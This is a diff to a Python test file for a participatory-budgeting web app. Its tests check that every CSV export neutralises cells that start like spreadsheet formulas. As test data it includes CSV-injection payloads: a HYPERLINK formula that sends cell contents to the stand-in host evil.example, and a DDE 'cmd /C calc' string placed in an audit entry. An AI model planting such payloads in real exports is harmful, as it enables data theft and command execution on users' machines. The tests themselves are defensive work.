@@ -7,18 +7,21 @@ from __future__ import annotations
 
 import csv
 import io
+import re
+from pathlib import Path
 from typing import Any
 
 from budgets import services as budget_services
 from budgets.jobs import tally_budget
 from budgets.models import Phase, Project
+from participation import spreadsheet
 from participation.settings import Settings
 from participation.spreadsheet import safe_cell
 from tests.budgets.test_results import closed_budget
 from tests.conftest import post_form
 from tests.consultations.factories import valid_answers
 from tests.participation.proposal_factories import make_proposal
-from tests.security.world import logged_in_client, seed_world
+from tests.security.world import app_routes, logged_in_client, seed_world, urls_in_every_phase
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Ouvrir")'
 
@@ -74,3 +77,116 @@ async def test_budget_results(app: Any, settings: Settings) -> None:
         text = (await visitor.get(f"/budgets/{budget.id}/results.csv")).text
     cells = _cells(text, ";")
     assert "'@SUM(A1:A9)" in cells and "@SUM(A1:A9)" not in cells
+
+
+# --- one writer, no way around it -------------------------------------------------------------
+
+ROOT = Path(__file__).resolve().parents[2]
+PACKAGES = ("participation", "budgets", "consultations", "moderation", "indicators", "followup")
+WRITERS = re.compile(
+    r"\bcsv\s*\.\s*(writer|DictWriter)\b|\bfrom\s+csv\s+import\b[^\n]*\b(writer|DictWriter)\b"
+)
+
+
+def _sources() -> list[Path]:
+    return [path for package in PACKAGES for path in (ROOT / package).rglob("*.py")]
+
+
+def test_no_module_but_the_spreadsheet_writer_writes_csv() -> None:
+    """Every CSV goes through `participation.spreadsheet.writer`, which neutralises each cell;
+    a module writing CSV itself could forget it (the indicators export did)."""
+    assert len(_sources()) > 50
+    writers = [
+        str(path.relative_to(ROOT))
+        for path in _sources()
+        if WRITERS.search(path.read_text(encoding="utf-8"))
+    ]
+    assert writers == ["participation/spreadsheet.py"]
+    keeping = [
+        str(path.relative_to(ROOT))
+        for path in _sources()
+        if "keep_formulas=True" in path.read_text(encoding="utf-8")
+        and path.name != "spreadsheet.py"  # which explains it
+    ]
+    # Pabulib files are read by programs and must round-trip their names (docs/security.md)
+    assert keeping == ["budgets/pabulib.py"]
+
+
+def test_the_writer_neutralises_every_cell() -> None:
+    out = io.StringIO()
+    spreadsheet.writer(out, delimiter=";").writerows([[FORMULA, "+1", -2, None, "ok"]])
+    assert _cells(out.getvalue(), ";") == ["'" + FORMULA, "'+1", "-2", "", "ok"]
+    kept = io.StringIO()
+    spreadsheet.writer(kept, keep_formulas=True).writerow(["=1+1"])
+    assert kept.getvalue().strip() == "=1+1"
+
+
+async def _rename(model: Any, start: str) -> None:
+    """Names unique per row (UNIQUE constraints), each starting like a formula."""
+    for row_id in await model.all().values_list("id", flat=True):
+        await model.filter(id=row_id).update(name=f"{start}{FORMULA[:80]}{row_id}")
+
+
+async def _formulas_everywhere(settings: Settings, world: Any) -> None:
+    """Formula-like text in every text a CSV export shows: titles, names, labels, reasons."""
+    from budgets.models import Budget, BudgetCategory, BudgetDistrict
+    from consultations import services as consultation_services
+    from consultations.models import Consultation, Option, Question
+    from indicators import services as indicator_services
+    from moderation.services import audit
+    from participation.accounts.models import User
+    from participation.proposals.models import Proposal
+    from participation.territory import Category, District
+
+    await Budget.all().update(title=FORMULA, description="<p>" + FORMULA + "</p>")
+    await Project.all().update(title="+" + FORMULA)
+    await _rename(BudgetDistrict, "-")
+    await _rename(BudgetCategory, "@")
+    await Consultation.all().update(title=FORMULA)
+    await Question.all().update(text="+" + FORMULA)
+    await Option.all().update(label="-" + FORMULA)
+    await Proposal.all().update(title=FORMULA, address="@" + FORMULA, body=f"<p>{FORMULA}</p>")
+    await _rename(District, "-")
+    await _rename(Category, "+")
+    await User.all().update(display_name="=" + "HYPERLINK(1)")
+    await audit(world.admin, "=" + "cmd|' /C calc'!A0", "@x", 1, {"k": FORMULA}, {}, FORMULA)
+    for consultation in await Consultation.filter(phase="closed"):
+        await consultation_services.compute_results(settings, consultation.id)
+    await indicator_services.compute_all()
+
+
+async def test_every_csv_export_neutralises_every_text_column(app: Any, settings: Settings) -> None:
+    """Every GET route, in every phase of the world's budgets and consultations, as an
+    administrator: each answer that is a CSV has formula text in it, and no cell that a
+    spreadsheet would run."""
+    world = await seed_world(settings)
+    await _formulas_everywhere(settings, world)
+    exports: dict[str, int] = {}
+    async with logged_in_client(app, world.admin) as admin:
+        for endpoint in app_routes(app):
+            if endpoint.method != "GET" or endpoint.path.startswith("/static"):
+                continue
+            for phase, url in urls_in_every_phase(endpoint, world):
+                response = await admin.get(url)
+                if not response.headers.get("content-type", "").startswith("text/csv"):
+                    continue
+                delimiter = ";" if response.text.count(";") > response.text.count(",") else ","
+                cells = _cells(response.text, delimiter)
+                running = [c for c in cells if c.startswith(safe_formula_starts())]
+                assert running == [], (str(endpoint), phase, running[:3])
+                neutralised = [c for c in cells if c.startswith("'")]
+                exports[str(endpoint)] = exports.get(str(endpoint), 0) + len(neutralised)
+    assert set(exports) == {
+        "GET /proposals.csv",
+        "GET /admin/audit.csv",
+        "GET /indicators/export.csv",
+        "GET /budgets/{budget_id:int}/results.csv",
+        "GET /consultations/{consultation_id:int}/results.csv",
+        "GET /consultations/{consultation_id:int}/responses.csv",
+    }
+    # the formula text reached each export (a title, a name, a label, a reason...)
+    assert all(count > 0 for count in exports.values()), exports
+
+
+def safe_formula_starts() -> tuple[str, ...]:
+    return spreadsheet.FORMULA_START
